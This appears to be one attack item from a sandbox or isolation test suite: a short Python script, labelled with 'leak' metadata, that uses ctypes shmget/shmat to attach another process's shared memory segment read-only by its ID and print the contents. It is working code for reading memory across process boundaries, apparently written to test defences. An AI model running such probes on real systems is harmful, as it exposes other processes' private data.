# /// attack
# tries = "Attaches shared memory of another process by its number."
# points = 0
# shows = ["leak"]
# ///
# %% before count
import ctypes

libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
place = libc.shmat(libc.shmget(bait["segment"], 0, 0), None, 0o10000)
if place not in (None, 2**64 - 1):
    print(ctypes.string_at(place).decode())
